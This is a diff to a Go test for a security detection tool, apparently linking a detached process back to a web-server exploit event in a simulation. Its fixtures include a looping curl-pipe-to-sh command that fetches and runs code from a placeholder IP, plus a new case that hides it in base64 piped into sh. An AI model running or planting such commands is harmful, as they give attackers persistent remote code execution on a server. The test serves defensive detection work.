@@ -1,6 +1,7 @@
 package timeline
 
 import (
+	"encoding/base64"
 	"testing"
 
 	"github.com/auditchain/auditchain/detect"
@@ -14,22 +15,28 @@ import (
 func TestLinkDetached(t *testing.T) {
 	const loop = "while :; do curl -fsS http://198.51.100.9/t | sh; sleep 3; done"
 	for _, c := range []struct {
-		name  string
-		args  []string
-		uid   uint32
-		after float64
-		want  bool
+		name    string
+		args    []string
+		uid     uint32
+		after   float64
+		encoded bool // the detaching command is a base64 payload piped into sh
+		want    bool
 	}{
-		{"the detached loop", []string{"setsid", "sh", "-c", loop}, 33, 0.008, true},
-		{"another loop", []string{"setsid", "sh", "-c", "while :; do /usr/local/bin/queue-worker; sleep 3; done"}, 33, 0.008, false},
-		{"another user", []string{"setsid", "sh", "-c", loop}, 0, 0.008, false},
-		{"too late", []string{"setsid", "sh", "-c", loop}, 33, 5, false},
+		{"the detached loop", []string{"setsid", "sh", "-c", loop}, 33, 0.008, false, true},
+		{"decoded from a payload", []string{"setsid", "sh", "-c", loop}, 33, 0.2, true, true},
+		{"another loop", []string{"setsid", "sh", "-c", "while :; do /usr/local/bin/queue-worker; sleep 3; done"}, 33, 0.008, false, false},
+		{"another user", []string{"setsid", "sh", "-c", loop}, 0, 0.008, false, false},
+		{"too late", []string{"setsid", "sh", "-c", loop}, 33, 5, false, false},
 	} {
 		t.Run(c.name, func(t *testing.T) {
 			s := newSim(t, Options{})
 			s.webServer()
 			sh := shellOf(300, worker1, "/var/www/html/uploads")
-			start := s.find(s.exec(10, sh, "sh", "-c", "setsid sh -c '"+loop+"' >/dev/null 2>&1 &"),
+			cmd := "setsid sh -c '" + loop + "' >/dev/null 2>&1 &"
+			if c.encoded {
+				cmd = "echo " + base64.StdEncoding.EncodeToString([]byte(cmd)) + " | base64 -d | sh"
+			}
+			start := s.find(s.exec(10, sh, "sh", "-c", cmd),
 				detect.StageSuspiciousSpawn, detect.SeverityHigh, "Web Server Exploitation")
 			orphan := who{pid: 301, ppid: 1, uid: c.uid, cwd: "/var/www/html/uploads"}
 			s.exec(10+c.after, orphan, c.args...)
